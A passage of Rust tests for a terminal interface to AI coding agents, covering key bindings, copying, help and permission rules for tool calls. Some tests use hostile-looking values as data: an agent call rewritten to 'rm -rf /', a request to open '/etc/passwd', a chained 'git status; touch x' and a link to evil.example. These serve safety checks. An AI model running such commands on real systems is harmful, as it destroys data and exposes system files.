    let mut s = Scene::new(80, 24);
    s.start();
    s.agent(AgentEvent::Initialized(Ok(InitResult::default())));
    let choice = |v: &str| Choice { value: v.into(), name: v.to_uppercase(), description: None, group: None };
    let mode = |id: &str| Mode { id: id.into(), name: format!("old {id}"), description: None };
    s.agent(AgentEvent::SessionOpened(Ok(Box::new(SessionResult {
        id: session(),
        modes: Some(Modes { current: "one".into(), pending: None, available: vec![mode("one"), mode("two")] }),
        options: Some(vec![ConfigOption {
            id: "m".into(),
            name: "Mode".into(),
            description: None,
            category: Some("mode".into()),
            kind: OptionKind::Select { current: "ask".into(), values: vec![choice("ask"), choice("code")] },
            pending: None,
        }]),
        model: None,
        commands: None,
        earlier: 0,
    }))));
    assert!(s.draw().contains(" ASK"), "{}", s.shown);
    s.press(Code::BackTab).after(400);
    assert_eq!(s.intents(), [Intent::SetOption { id: "m".into(), value: OptionValue::Id("code".into()) }]);
    s.press(Code::F(2));
    assert!(s.draw().contains("CODE") && !s.shown.contains("old "), "{}", s.shown);
}

#[test]
fn f2_filters_and_chooses_without_touching_the_composer() {
    let mut s = Scene::ready(80, 24);
    s.typed("draft").press(Code::F(2));
    let rows: Vec<&str> = s.draw().lines().skip_while(|row| !row.contains("✓ mode:")).take(2).collect();
    assert!(rows.len() == 2 && rows[0].ends_with("default") && rows[1].trim() == "plan", "{rows:?}");
    s.typed("pla").press(Code::Enter);
    assert_eq!(s.intents(), [Intent::SetMode { id: "plan".into() }]);
    assert_eq!(s.ui.picker, None);
    assert_eq!(s.ui.view.composer.text(), "draft");
    s.press(Code::F(2)).press(Code::Esc);
    assert_eq!(s.ui.picker, None);
    assert_eq!(s.intents().len(), 1);
}

#[test]
fn the_copy_key_copies_the_source_and_says_what_it_cannot_know() {
    let mut s = Scene::working(100, 24);
    s.ctrl('y');
    assert_eq!(s.outs, []);
    s.say("**bold** `x`");
    s.ctrl('y');
    assert_eq!(s.outs, [Out::Copy(What::Characters(12), "**bold** `x`".into())]);
}

#[test]
fn f12_frees_the_mouse_and_takes_it_back() {
    let mut s = Scene::ready(80, 24);
    s.press(Code::F(12)).press(Code::F(12));
    assert_eq!(s.outs, [Out::Mouse(Mouse::Free), Out::Mouse(Mouse::Ours)]);
}

#[test]
fn the_marked_command_is_completed_by_tab_and_sent_by_enter() {
    let mut s = Scene::ready(80, 24);
    s.commands(&["review", "compact"]);
    s.typed("/rev");
    assert!(s.draw().contains("/review"), "{}", s.shown);
    s.press(Code::Esc);
    assert!(!s.draw().contains("does review"), "{}", s.shown);
    s.typed("i");
    assert!(s.draw().contains("does review"));
    s.press(Code::Tab);
    assert_eq!(s.ui.view.composer.text(), "/review ");
    assert!(!s.draw().contains("does review"));
    s.ctrl('u').typed("/").draw();
    assert!(s.shown.contains("Enter takes it · Esc closes the list"), "{}", s.shown);
    s.press(Code::Down).press(Code::Enter);
    assert_eq!(s.intents(), [prompt("/compact")]);
    s.end_turn(Stop::EndTurn);
    s.after(1000).typed("/rev").press(Code::Esc).press(Code::Enter);
    assert_eq!(s.intents().last(), Some(&prompt("/rev")), "without the list it is sent as it is written");
    s.end_turn(Stop::EndTurn);
    let sent = s.intents().len();
    s.typed("/fan").press(Code::Enter);
    assert_eq!((s.ui.view.composer.text(), s.intents().len()), ("/fan-out ", sent), "it wants words");
}

#[test]
fn r_266_commands_of_ours_stand_in_the_list_unless_the_agent_has_one_of_that_name() {
    let mut s = Scene::ready(100, 24);
    s.typed("/");
    assert!(s.draw().contains("/btw QUESTION") && s.shown.contains("/fan-out ONE,TWO PROMPT"), "{}", s.shown);
    s.typed("fan");
    s.press(Code::Tab);
    assert_eq!(s.ui.view.composer.text(), "/fan-out ");
    s.commands(&["btw"]);
    s.ctrl('u').typed("/btw");
    assert!(s.draw().contains("does btw") && !s.shown.contains("/btw QUESTION"), "{}", s.shown);
}

#[test]
fn while_the_conversation_is_read_the_question_names_the_key_that_leads_to_it() {
    let mut s = Scene::asked(100, 24);
    s.press(Code::F(10));
    assert!(s.draw().contains("Alt+P to answer"), "{}", s.shown);
    s.key(Key::alt(Code::Char('p')));
    assert_eq!((s.ui.view.focus.clone(), s.ui.view.reading.is_none()), (Focus::Dock, true));
    let mut s = Scene::asked(100, 24);
    s.press(Code::F(2));
    assert!(s.draw().contains("Esc, Tab"), "{}", s.shown);
    s.press(Code::Esc).press(Code::Tab);
    assert_eq!(s.ui.view.focus, Focus::Dock);
}

#[test]
fn a_click_folds_and_ctrl_o_folds_the_newest() {
    let mut s = Scene::working(80, 24);
    s.tool("a", ToolKind::Read, "src/main.rs", ToolStatus::Completed);
    s.draw();
    let id = s.model.first().session().entries().last().unwrap().id;
    let (y, _) = *s.info.hits.iter().find(|(_, e)| *e == id).unwrap();
    s.click(5, y);
    let first = s.ui.view.folds.of(id);
    assert!(first.is_some());
    s.ctrl('o');
    assert!(s.ui.view.folds.of(id).is_some() && s.ui.view.folds.of(id) != first);
}

#[test]
fn what_is_folded_or_not_is_laid_out_no_more_often_than_it_is_drawn() {
    let mut s = Scene::working(80, 24);
    s.tool("a", ToolKind::Read, "src/main.rs", ToolStatus::Completed);
    let mut patch = ToolPatch::new("b".into());
    (patch.kind, patch.status) = (Patch::Set(ToolKind::Fetch), Patch::Set(ToolStatus::Completed));
    patch.content = Patch::Set(vec![ToolContent::Block(Block::Text("found\n".repeat(9)))]);
    s.update(Update::ToolCall(patch.into()));
    s.draw();
    let ids: Vec<EntryId> = s.model.first().session().entries().iter().rev().take(2).map(|e| e.id).collect();
    s.ctrl('o');
    assert_eq!(s.ui.view.folds.of(ids[0]), Some(Fold::Open), "there is more to see");
    let bytes = s.transcript.cached_bytes();
    assert!(s.draw().contains("found"), "{}", s.shown);
    assert_eq!(s.transcript.cached_bytes(), bytes, "the key has laid it out, the frame has not");
    let (y, _) = *s.info.hits.iter().find(|(_, e)| *e == ids[1]).unwrap();
    s.click(5, y);
    assert_eq!(s.ui.view.folds.of(ids[1]), Some(Fold::Closed), "there is nothing more to see");
}

#[test]
fn what_is_put_aside_comes_back_the_newest_first_and_is_kept_as_written() {
    let mut s = Scene::ready(80, 24);
    s.ctrl('s');
    assert!(s.draw().contains("nothing is put aside"), "{}", s.shown);
    s.typed("one").ctrl('s').typed("two").ctrl('s').typed("3");
    assert!(s.draw().contains("put aside, 2 now"), "{}", s.shown);
    assert_eq!((s.ui.view.composer.text(), s.ui.view.stash.len()), ("3", 2));
    s.press(Code::Backspace);
    assert!(s.after(10_000).draw().contains("Ctrl+S brings back"), "{}", s.shown);
    for text in ["two", "one"] {
        s.ctrl('s');
        assert_eq!(s.ui.view.composer.text(), text);
        assert_eq!(s.draw().contains("back · 1 still put aside"), text == "two", "{}", s.shown);
        s.ctrl('u').after(10_000);
    }
    assert_eq!(s.intents(), []);
}

#[test]
fn what_is_selected_with_the_mouse_is_copied_as_it_was_written() {
    let mut s = Scene::working(40, 30);
    let answer = "A sentence that does not fit into one row of the screen.\n\n- 日本茶 is green\n\n```rust\nlet x = 1;\n```\n\n\
                  | tea | cents |\n|---|--:|\n| green | 980 |\n";
    let block = Block::Text(answer.into());
    s.update(Update::Chunk { kind: crate::model::entry::ChunkKind::Agent, message_id: None, block });
    s.draw();
    let row = |s: &Scene, words: &str| s.shown.lines().position(|line| line.contains(words)).unwrap() as u16;
    let (first, last) = (row(&s, "A sentence"), row(&s, "980"));
    let written = "A sentence that does not fit into one row of the screen.\n\n- 日本茶 is green\n\nlet x = 1;\n\n\
                   | tea | cents |\n| --- | --: |\n| green | 980 |";
    let plain = s.buf.cell((2, first)).map(Cell::style);
    for (from, to) in [((0, first), (39, last)), ((39, last), (0, first))] {
        s.outs.clear();
        s.drag(from, to);
        assert_eq!(s.outs, [Out::Copy(What::Characters(written.chars().count()), written.into())]);
    }
    assert_ne!(s.buf.cell((2, first)).map(Cell::style), plain, "it is marked");
    // Ctrl+C copies it again and stops nothing; Esc only forgets it.
    s.outs.clear();
    s.ctrl('c');
    assert!(matches!(&s.outs[..], [Out::Copy(..)]), "{:?}", s.outs);
    s.press(Code::Esc);
    assert_eq!((s.outs.len(), s.ui.view.grip.selection()), (1, None));
    // A wide character is taken whole from either half.
    let y = row(&s, "日本茶");
    for (x, to) in [(4, 7), (5, 6)] {
        s.outs.clear();
        s.drag((x, y), (to, y));
        assert_eq!(s.outs, [Out::Copy(What::Characters(4), "- 日本".into())], "{x} {to}");
    }
}

#[test]
fn lines_of_a_diff_have_signs_where_removed_and_added_ones_are_selected() {
    let (old, new) = ("same\n\told();\n", "same\n\tnewer();\n\tnewest();\n");
    let mut told = Scene::working(60, 24);
    let mut patch = ToolPatch::new("t".into());
    patch.kind = Patch::Set(ToolKind::Edit);
    patch.status = Patch::Set(ToolStatus::Completed);
    let change = Change::of_texts("/home/me/src/shop/a.rs", Some(old.into()), new.into());
    patch.content = Patch::Set(vec![ToolContent::Change(change)]);
    told.update(Update::ToolCall(patch.into()));
    let mut asked = Scene::working(60, 24);
    asked.ask_edit(1, "/home/me/src/shop/a.rs", old, new, &["Yes", "No"]);
    for s in [&mut told, &mut asked] {
        s.after(700).draw();
        let y = |words: &str| place_of(s, words).1;
        let (same, old, newer, newest) = (y("same"), y("old()"), y("newer()"), y("newest()"));
        for (from, to, copied) in [
            (same, newest, " same\n-\told();\n+\tnewer();\n+\tnewest();"),
            (old, newer, "-\told();\n+\tnewer();"),
            (same, old, "same\n\told();"),
            (newer, newest, "\tnewer();\n\tnewest();"),
        ] {
            s.outs.clear();
            s.drag((0, from), (59, to));
            let text = s.outs.iter().find_map(|out| if let Out::Copy(_, text) = out { Some(text) } else { None });
            assert_eq!(text.map(String::as_str), Some(copied), "{}", s.shown);
        }
    }
}

#[test]
fn a_click_on_the_line_at_a_turns_end_opens_its_review() {
    let mut s = Scene::working(80, 24);
    let totals = Totals { added: 2, removed: 1, files: 1, pending: 2 };
    let turn = s.model.first().session().last_turn();
    s.event(Event::Host(HostEvent::Review(ReviewEvent::TurnReviewed { turn, totals, session: totals, after: false })));
    s.draw();
    let id = s.model.first().session().entries().iter().find(|e| matches!(e.body, Body::Changes(_))).unwrap().id;
    let (y, _) = *s.info.hits.iter().find(|(_, e)| *e == id).unwrap();
    s.click(5, y);
    assert_eq!(s.ui.view.review.as_ref().map(|r| r.scope), Some(Scope::Turn(turn.0)));
    assert_eq!(s.ui.view.focus, Focus::Review);
}

#[test]
fn returned_prompts_go_before_what_is_written() {
    let mut s = Scene::ready(80, 24);
    s.typed("new");
    let now = s.now;
    super::news(&mut s.ui, returned("old"), now);
    let text = s.ui.view.composer.text();
    assert!(text.starts_with("old") && text.ends_with("new"), "{text:?}");
}

#[test]
fn cancel_leaves_what_waits_where_it_is() {
    let mut s = Scene::working(80, 24);
    s.typed("later").press(Code::Enter).press(Code::Esc);
    s.end_turn(Stop::Cancelled);
    assert_eq!((s.ui.view.composer.text(), s.model.first().session().held.staying()), ("", 1));
}

#[test]
fn what_is_typed_into_the_help_looks_for_rows_and_not_into_the_prompt() {
    let mut s = Scene::ready(120, 60);
    s.press(Code::F(1));
    assert!(s.draw().contains("first of all") && s.shown.contains("new line"), "{}", s.shown);
    s.typed("review CHANGED").draw();
    assert!(s.shown.contains("review what was changed") && !s.shown.contains("new line"), "{}", s.shown);
    let keys = s.shown.lines().filter(|row| row.contains("review what was changed")).count();
    assert_eq!(keys, 1, "{}", s.shown);
    assert!(s.shown.contains("1 entry · "), "{}", s.shown);
    assert_eq!(s.ui.view.composer.text(), "");
    s.typed("zzz").draw();
    assert!(s.shown.contains("nothing matches"), "{}", s.shown);
    s.ctrl('u').draw();
    assert!(s.shown.contains("first of all"), "{}", s.shown);
    s.press(Code::Esc);
    assert_eq!(s.ui.help, None);
}

#[test]
fn on_a_wide_screen_the_help_has_two_columns() {
    let mut s = Scene::ready(160, 45);
    s.press(Code::F(1)).draw();
    let all = s.info.help_scroll_max + s.info.help_page;
    let mut narrow = Scene::ready(100, 45);
    narrow.press(Code::F(1)).draw();
    assert!(s.info.help_page > narrow.info.help_page, "{}", s.shown);
    assert!(all > s.info.help_page, "{}", s.shown);
    s.press(Code::End).draw();
    assert_eq!(s.ui.help.as_ref().map(|help| help.top), Some(s.info.help_scroll_max));
}

#[test]
fn all_that_can_be_copied_has_a_letter_that_copies_it() {
    let mut s = Scene::working(80, 40);
    s.say("So:\n\n```rust\nlet first = 1;\n```\n\nand\n\n```sh\nmake the rest\n```\n");
    let mut patch = ToolPatch::new("t".into());
    patch.title = Patch::Set("edit".into());
    patch.content = Patch::Set(vec![ToolContent::Change(Change::of_texts("src/a.rs", Some("x".into()), "y".into()))]);
    s.update(Update::ToolCall(patch.into()));
    s.press(Code::F(10)).draw();
    s.typed("c").draw();
    let marked = |s: &Scene, row: &str, what: &str| {
        let line = s.shown.lines().skip(1).find(|line| line.contains(row)).unwrap();
        let (before, _) = line.split_once(what).unwrap_or_else(|| panic!("{what}: {}", s.shown));
        before.trim_end().chars().last().unwrap()
    };
    let (first, second) = (marked(&s, "let first", "rust, 1 line"), marked(&s, "make the rest", "sh, 1 line"));
    let (path, prompt) = (marked(&s, "a.rs", "path"), marked(&s, "Fix the subtraction", "all of it"));
    let wanted = [
        (first, "let first = 1;"),
        (second, "make the rest"),
        (path, "src/a.rs"),
        (prompt, "Fix the subtraction in add()."),
    ];
    for (letter, text) in wanted {
        s.outs.clear();
        s.press(Code::Char(letter)).draw();
        let [Out::Copy(_, copied)] = &s.outs[..] else { panic!("{letter}: {:?}", s.outs) };
        assert_eq!(copied.trim_end(), text);
        assert!(!s.shown.contains("all of it"), "they are gone: {}", s.shown);
        s.typed("c").draw();
    }
    s.outs.clear();
    s.press(Code::Esc).draw();
    assert!(s.outs.is_empty() && s.ui.view.reading.is_some() && !s.shown.contains("all of it"), "{}", s.shown);
    s.typed("c").draw();
    s.typed("~");
    assert!(s.draw().contains("nothing has this letter"), "{}", s.shown);
    s.after(2100);
    assert!(!s.draw().contains("nothing has this letter"), "{}", s.shown);
}

#[test]
fn keys_one_after_the_other_do_what_they_are_bound_to_and_answer_nothing_by_the_way() {
    let text = "[[bind]]\non = \"ctrl+x 1\"\nrun = \"help\"\n[[bind]]\non = \"ctrl+x ctrl+y\"\nrun = \"stash\"\nwhen = \"composer\"";
    let mut s = Scene::asked(80, 24);
    s.ui.keys = Keymap::read(text, "keys.toml").0.into();
    s.after(2000).press(Code::Tab).draw();
    s.ctrl('x');
    assert!(s.draw().contains("Ctrl+X …"), "{}", s.shown);
    s.typed("1");
    assert!(s.answers().is_empty() && s.ui.help.take().is_some(), "{:?}", s.outs);
    s.ctrl('x').typed("2");
    assert!(s.answers().is_empty() && s.draw().contains("Ctrl+X 2 means nothing here"), "{}", s.shown);
    s.ctrl('x').press(Code::Esc);
    assert!(!s.draw().contains("Ctrl+X"), "{}", s.shown);
    assert_eq!(s.ui.view.focus, Focus::Dock, "it only ended that");
    s.ctrl('x').after(10_000);
    s.input(Input::Key(Key::char('1')));
    assert_eq!(s.answers().len(), 1, "after a while nothing is waited for");
    s.typed("later").ctrl('x').ctrl('y');
    assert_eq!((s.ui.view.composer.text(), s.ui.view.stash.len()), ("", 1));
    s.ctrl('x').input(Input::Paste("y".into()));
    s.typed("x");
    assert_eq!(s.ui.view.composer.text(), "yx", "a paste ends it");
}

#[test]
fn the_help_cuts_nothing() {
    for width in [40, 80, 100] {
        let mut s = Scene::ready(width, 999);
        s.press(Code::F(1)).draw();
        let all = s.shown.split_whitespace().collect::<Vec<_>>().join(" ");
        for row in s.ui.keys.help(crate::ui::keys::Layer::Composer).filter(|row| row.what != "text") {
            assert!(all.contains(row.what), "{width}: {}", row.what);
            let keys = row.keys.split_whitespace().collect::<Vec<_>>().join(" ");
            assert!(all.contains(&keys), "{width}: {keys}");
        }
    }
}

#[test]
fn a_message_of_ours_goes_when_it_is_not_true_any_more() {
    let mut s = Scene::ready(80, 24);
    s.press(Code::BackTab).after(400);
    s.agent(AgentEvent::ModeSet { mode: "plan".into(), result: Err(CallError::new(ErrorKind::Other, "not now")) });
    assert!(s.draw().lines().last().unwrap().contains("mode plan was not set: not now"), "{}", s.shown);

    let mut s = Scene::working(80, 24);
    s.key(Key::alt(Code::Char('p')));
    assert!(s.draw().contains("nothing waits for you"), "{}", s.shown);
    s.ask(1, "ls", &["Allow"]);
    assert!(!s.draw().contains("nothing waits for you"), "{}", s.shown);

    let mut s = Scene::ready(80, 24);
    s.ctrl('c');
    assert!(s.draw().contains("Ctrl+C again quits"), "{}", s.shown);
    s.typed("x");
    assert!(!s.draw().contains("Ctrl+C again quits"), "{}", s.shown);
    s.ctrl('c').ctrl('c').ctrl('c');
    assert_eq!(s.outs, [Out::Quit], "armed anew");
}

#[test]
fn what_ctrl_c_cleared_comes_back_with_undo_and_with_up() {
    let mut s = Scene::ready(80, 24);
    s.typed("precious words").ctrl('c');
    assert_eq!(s.ui.view.composer.text(), "");
    s.ctrl('_');
    assert_eq!(s.ui.view.composer.text(), "precious words");
    s.ctrl('c').press(Code::Up);
    assert_eq!(s.ui.view.composer.text(), "precious words");
}

#[test]
fn one_esc_closes_a_list_and_so_does_what_acts_elsewhere() {
    let mut s = Scene::ready(80, 24);
    s.press(Code::F(2)).typed("zzz").press(Code::Esc);
    assert_eq!(s.ui.picker, None);
    s.press(Code::F(2)).typed("m");
    assert!(s.ui.picker.is_some());
    s.press(Code::F(4));
    assert_eq!((s.ui.picker.as_ref(), s.intents().len()), (None, 1));
}

/// A question that the rules leave to the person.
fn with_rules(width: u16, height: u16, titles: &[&str]) -> Scene {
    let mut s = Scene::working(width, height);
    s.model = std::mem::take(&mut s.model).with_rules(true);
    for (req, title) in (1..).zip(titles) {
        s.ask(req, title, &["Allow", "Reject"]);
        s.event(Event::Host(HostEvent::Ruled { req: ReqId(req), ruling: Ruling::OPEN }));
    }
    s.draw();
    s.press(Code::Tab).after(2000).draw();
    s
}

/// S-106, S-172.
#[test]
fn f2_lists_rules_of_earlier_runs_below_the_rest_and_enter_takes_one_back() {
    let mut s = with_rules(100, 40, &[]);
    let rows = |s: &Scene| s.ui.picker.as_ref().unwrap().matching().len();
    s.press(Code::F(2)).draw();
    assert_eq!(s.intents().last(), Some(&Intent::Rules(RuleWish::List)));
    let before = rows(&s);
    let agent = Some("one".to_owned());
    let rule = MadeRule { list: Ruled::Allow, pattern: "Bash(git *)".into(), scope: Reach::Workspace, agent };
    s.event(Event::Host(HostEvent::RulesKept(vec![rule.clone()])));
    s.draw();
    assert_eq!(rows(&s), before + 1);
    s.event(Event::Host(HostEvent::RulesKept(vec![rule.clone()])));
    s.draw();
    assert_eq!(rows(&s), before + 1, "once");
    s.typed("Bash(git").draw();
    assert!(
        s.shown.contains("allow Bash(git *)") && s.shown.contains("in this directory for one; choose"),
        "{}",
        s.shown
    );
    s.press(Code::Enter);
    assert_eq!(s.intents().last(), Some(&Intent::Rules(RuleWish::Drop(rule))));
}

fn weighed(text: &str, resolves: &[u64]) -> Weighed {
    let resolves = resolves.iter().map(|req| ReqId(*req)).collect();
    Weighed { text: text.into(), resolves, here: (1, 4), ..Weighed::default() }
}

/// One question about which the decision hook has said this.
fn with_hook(verdict: Ruled, reason: Option<&str>) -> Scene {
    let mut s = Scene::working(100, 24);
    s.model = std::mem::take(&mut s.model).with_rules(true);
    s.ask(1, "git log", &["Allow", "Reject"]);
    let (req, reason) = (ReqId(1), reason.map(str::to_owned));
    s.event(Event::Host(HostEvent::HookAsked { req }));
    s.event(Event::Host(HostEvent::Ruled { req, ruling: Ruling { verdict, reason, by_hook: true, ..Ruling::OPEN } }));
    s.draw();
    s
}

#[test]
fn a_question_that_the_decision_hook_leaves_to_the_person_says_so_and_no_rule_that_allows_answers_it() {
    let mut s = with_hook(Ruled::Ask, Some("look at it"));
    assert!(s.shown.contains("the decision hook asks: look at it"), "{}", s.shown);
    s.press(Code::Tab).after(2000).draw();
    s.typed("a");
    let proposed = vec![weighed("Bash(git log)", &[1]), weighed("Bash(git *)", &[1, 2])];
    let weighing = Weighing { req: ReqId(1), list: Ruled::Allow, proposed, typed: None, why_none: None };
    s.event(Event::Host(HostEvent::RulesWeighed(weighing)));
    let words = "does not answer this, which the decision hook asks about";
    assert!(s.draw().contains(words) && s.shown.contains("is for later ones"), "{}", s.shown);
    s.press(Code::Down).draw();
    assert!(s.shown.contains(&format!("{words}, but 1 other")), "{}", s.shown);
    s.press(Code::BackTab).press(Code::BackTab).draw();
    assert!(s.shown.contains("new rule  deny") && s.shown.contains(" answers this"), "{}", s.shown);
    let s = with_hook(Ruled::Ask, None);
    assert!(s.shown.contains("the decision hook asks"), "{}", s.shown);
}

#[test]
fn a_call_that_the_decision_hook_refuses_is_refused_by_that() {
    let s = with_hook(Ruled::Deny, None);
    assert!(s.shown.contains("refused by the decision hook") && !s.shown.contains("refused by you"), "{}", s.shown);
}

#[test]
fn a_rule_is_shown_with_what_it_does_before_it_is_made() {
    let mut s = with_rules(100, 24, &["git log -1", "git log"]);
    s.typed("a");
    let req = ReqId(1);
    assert_eq!(s.intents(), [Intent::Rules(RuleWish::Weigh { req, list: Ruled::Allow, text: None })]);
    s.press(Code::Enter);
    assert_eq!(s.intents().len(), 1, "nothing is made that is not known yet");
    let proposed = vec![weighed("Bash(git log -1)", &[1]), weighed("Bash(git log *)", &[1, 2])];
    let weighing = Weighing { req, list: Ruled::Allow, proposed, typed: None, why_none: None };
    s.event(Event::Host(HostEvent::RulesWeighed(weighing.clone())));
    assert!(s.draw().contains("new rule  allow  Bash(git log -1)"), "{}", s.shown);
    s.press(Code::Down).draw();
    assert!(s.shown.contains("answers this and 1 other question"), "{}", s.shown);
    assert!(s.shown.contains("fits 1 of 4 requests of this session"), "{}", s.shown);
    s.press(Code::BackTab).draw();
    assert!(s.shown.contains("asks about this and 1 other question"), "{}", s.shown);
    s.press(Code::BackTab).press(Code::BackTab);
    s.press(Code::Backspace).typed("1");
    let text = "Bash(git log *1".to_owned();
    assert_eq!(
        s.intents().last(),
        Some(&Intent::Rules(RuleWish::Weigh { req, list: Ruled::Allow, text: Some(text.clone()) }))
    );
    let typed = Some(Weighed { text, fault: Some("the `)` is missing".into()), ..Weighed::default() });
    s.event(Event::Host(HostEvent::RulesWeighed(Weighing { typed, ..weighing })));
    assert!(s.draw().contains("no pattern: the `)` is missing"), "{}", s.shown);
    s.press(Code::Enter).press(Code::Up).press(Code::Down).press(Code::Tab).press(Code::Enter);
    let rules = NewRules { list: Ruled::Allow, text: "Bash(git log *)".into(), scope: Reach::Always };
    assert_eq!(s.intents().last(), Some(&Intent::Rules(RuleWish::Make(rules))));
    assert!(s.answers().is_empty() && s.draw().contains("a make a rule"), "{}", s.shown);
}

#[test]
fn another_list_has_proposals_of_its_own_unless_one_was_chosen() {
    let mut s = with_rules(100, 24, &["git status; touch x"]);
    s.typed("a");
    let req = ReqId(1);
    let weighing = |list, text: &str| {
        let proposed = vec![weighed(text, &[1]), weighed("Bash(git *), Bash(touch *)", &[1])];
        Event::Host(HostEvent::RulesWeighed(Weighing { req, list, proposed, typed: None, why_none: None }))
    };
    s.event(weighing(Ruled::Allow, "Bash(git status), Bash(touch x)"));
    assert!(s.draw().contains("allow  Bash(git status), Bash(touch x)"), "{}", s.shown);
    s.press(Code::BackTab).draw();
    let wish = |list, text| Intent::Rules(RuleWish::Weigh { req, list, text });
    assert_eq!(s.intents().last(), Some(&wish(Ruled::Ask, None)));
    s.press(Code::BackTab);
    assert_eq!(s.intents().last(), Some(&wish(Ruled::Deny, None)));
    // What was looked for before comes late.
    s.event(weighing(Ruled::Ask, "Bash(git status)"));
    assert!(s.draw().contains("new rule  deny  ▏"), "{}", s.shown);
    s.event(weighing(Ruled::Deny, "Bash(touch x)"));
    assert!(s.draw().contains("new rule  deny  Bash(touch x)▏"), "{}", s.shown);
    s.press(Code::Down).press(Code::BackTab).draw();
    let chosen = "Bash(git *), Bash(touch *)";
    assert!(s.shown.contains(&format!("new rule  allow  {chosen}")), "{}", s.shown);
    assert_eq!(s.intents().last(), Some(&wish(Ruled::Allow, Some(chosen.to_owned()))));
}

#[test]
fn a_rule_that_is_drafted_goes_when_the_agent_changes_the_call() {
    let mut s = with_rules(100, 24, &["git log -1"]);
    s.typed("a");
    let req = ReqId(1);
    let proposed = vec![weighed("Bash(git log -1)", &[1])];
    s.event(Event::Host(HostEvent::RulesWeighed(Weighing {
        req,
        list: Ruled::Allow,
        proposed,
        typed: None,
        why_none: None,
    })));
    assert!(s.draw().contains("new rule"), "{}", s.shown);
    let mut patch = ToolPatch::new("call-1".into());
    patch.title = Patch::Set("rm -rf /".into());
    s.update(Update::ToolUpdate(patch.into()));
    assert!(s.draw().contains("the call has changed, no rule is made"), "{}", s.shown);
    let before = s.intents().len();
    s.press(Code::Enter);
    assert_eq!(s.intents().len(), before, "nothing is made of what is not asked any more");
    assert!(!s.shown.contains("new rule") && s.answers().is_empty(), "{}", s.shown);
}

#[test]
fn no_rule_is_made_of_a_question_that_could_not_be_read_and_esc_makes_none() {
    let mut s = with_rules(60, 14, &["line after line ".repeat(60).as_str()]);
    s.typed("a");
    assert_eq!(s.intents(), [], "{}", s.shown);
    assert!(s.draw().contains("PageDown to its end"), "{}", s.shown);
    for _ in 0..40 {
        s.press(Code::PageDown).draw();
    }
    assert!(!s.shown.contains("PageDown to its end"), "it was read: {}", s.shown);
    s.typed("a");
    assert_eq!(s.intents().len(), 1);
    let why = Some("it may be anything".to_owned());
    let weighing = Weighing { req: ReqId(1), list: Ruled::Allow, proposed: Vec::new(), typed: None, why_none: why };
    s.event(Event::Host(HostEvent::RulesWeighed(weighing)));
    assert!(s.draw().contains("no rule to allow this: it may be anything"), "{}", s.shown);
    for does_nothing in ["make it", "narrower", "where and how long", "in this directory"] {
        assert!(!s.shown.contains(does_nothing), "{does_nothing}: {}", s.shown);
    }
    s.press(Code::Enter).draw();
    let said = s.ui.toast.as_ref().is_some_and(|toast| toast.text.contains("no pattern is written"));
    assert!(said && s.intents().len() == 1, "{}", s.shown);
    // One of another list may be proposed.
    s.press(Code::BackTab).press(Code::BackTab);
    let req = ReqId(1);
    assert_eq!(s.intents().last(), Some(&Intent::Rules(RuleWish::Weigh { req, list: Ruled::Deny, text: None })));
    let proposed = vec![weighed("Bash(line *)", &[1])];
    s.event(Event::Host(HostEvent::RulesWeighed(Weighing {
        req,
        list: Ruled::Deny,
        proposed,
        typed: None,
        why_none: None,
    })));
    assert!(s.draw().contains("deny  Bash(line *)") && s.shown.contains("make it"), "{}", s.shown);
    let asked = s.intents().len();
    s.press(Code::Esc).draw();
    assert!(s.ui.view.focus == Focus::Dock && s.shown.contains("1 Allow"), "{}", s.shown);
    assert_eq!(s.intents().len(), asked);
}

#[test]
fn one_prompt_for_several_agents_is_whole_or_stays_where_it_was_written() {
    let mut s = Scene::ready(80, 24);
    for half in ["/fan-out", "/fan-out one mend it", "/fan-out a,b,c,d,e,f mend it", "/fan-out one,two "] {
        s.ctrl('u').typed(half).press(Code::Enter);
        assert!(s.outs.is_empty() && s.draw().contains("two to five agents"), "{half}: {:?}", s.outs);
        assert_eq!(s.ui.view.composer.text(), half);
    }
    s.ctrl('u').typed("/fan-out one,two mend it all").press(Code::Enter);
    assert_eq!(s.outs, [Out::FanOut(vec!["one".into(), "two".into()], "mend it all".into())]);
    assert!(s.ui.view.composer.is_empty());
}

#[test]
fn while_reading_o_opens_the_page_that_is_named() {
    let mut s = Scene::working(80, 24);
    s.say("It is at https://a.example/x, not at https://u@evil.example/.");
    s.draw();
    s.press(Code::F(10)).typed("o");
    assert!(s.outs.contains(&Out::OpenPage("https://a.example/x".into())), "{:?}", s.outs);
    assert!(s.ui.toast.as_ref().is_some_and(|toast| toast.text == "opens https://a.example/x"));
}

#[test]
fn r_324_a_file_outside_of_the_directories_is_opened_after_it_was_said() {
    let opens = |path: &str| {
        let mut s = Scene::working(100, 24);
        let mut patch = ToolPatch::new("t".into());
        patch.locations = Patch::Set(vec![Location { path: path.into(), line: Some(3) }]);
        s.update(Update::ToolCall(patch.into()));
        s.draw();
        s.press(Code::F(10));
        s.typed("o");
        s
    };
    let opened = |s: &Scene| s.outs.iter().any(|out| matches!(out, Out::Edit(_)));
    let mut s = opens("src/main.rs");
    assert!(opened(&s), "{}", s.draw());
    for path in ["/etc/passwd", "../beside/a.rs"] {
        let mut s = opens(path);
        assert!(!opened(&s) && s.draw().contains("outside of the session's directories"), "{path}\n{}", s.shown);
        s.typed("o");
        assert!(opened(&s), "{path}");
    }
}

#[test]
fn while_reading_o_opens_a_picture_and_s_saves_it() {
    use crate::base::picture::Picture;
    use crate::ui::msg::Whither;
    use std::sync::Arc;
    let mut s = Scene::working(80, 24);
    let picture = Arc::new(Picture::of("image/png".into(), "AAAA").unwrap());
    let block = Block::Other { label: "image".into(), uri: None, text: None, picture: Some(Arc::clone(&picture)) };
    s.update(Update::Chunk { kind: crate::model::entry::ChunkKind::Agent, message_id: None, block });
    s.draw();
    s.press(Code::F(10)).typed("os");
    assert_eq!(s.outs, [Out::Picture(Arc::clone(&picture), Whither::Opens), Out::Picture(picture, Whither::Stays)]);
    let mut s = Scene::working(80, 24);
    s.say("words");
    s.draw();
    s.press(Code::F(10)).typed("s");
    assert!(s.draw().contains("it has no picture"), "{}", s.shown);
}

#[test]
fn while_reading_calls_that_share_a_row_are_one_step_and_are_found_in_it() {
    let mut s = Scene::working(80, 24);
    s.say("first");
    for n in 0..5 {
        s.tool(&format!("t{n}"), ToolKind::Read, &format!("file-{n}.rs"), ToolStatus::Completed);
    }
    s.say("last");
    s.draw();
    let at = |s: &Scene| s.ui.view.reading.as_ref().map(|reading| reading.at.0);
    s.press(Code::F(10));
    let last = at(&s).unwrap();
    s.press(Code::Up);
